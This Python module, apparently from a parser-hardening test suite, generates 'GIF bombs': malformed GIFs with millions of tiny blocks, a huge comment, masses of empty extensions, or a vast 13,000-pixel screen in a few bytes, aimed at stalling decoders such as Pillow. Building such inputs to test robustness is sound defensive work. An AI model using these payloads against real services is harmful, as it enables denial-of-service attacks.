"""GIF bombs: floods of blocks, which Pillow reads in Python, and vast screens."""

import struct

from image_bombs.registry import SIDE, bomb, fill, slow_bomb


def _gif(width: int, height: int, *extensions: bytes) -> bytes:
    frame = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\2\2\x44\1\0"
    palette = bytes(range(6))
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + palette + b"".join(extensions) + frame + b";"


@bomb
def gif_tiny_blocks() -> bytes:
    """An extension of 15 million blocks of one byte."""
    return _gif(1, 1, b"!\x01", fill(b"\1a"), b"\0")


@bomb
def gif_comment_blocks() -> bytes:
    """A comment of 10 million blocks of two bytes."""
    return _gif(1, 1, b"!\xfe", fill(b"\2ab"), b"\0")


@bomb
def gif_extensions() -> bytes:
    """10 million empty extensions."""
    return _gif(1, 1, fill(b"!\1\0"))


@slow_bomb
def gif_vast_screen() -> bytes:
    """A transparent screen of 13,000 x 13,000 pixels with a frame of one pixel, in 50 bytes."""
    return _gif(SIDE, SIDE, b"!\xf9\4\1\0\0\0\0")
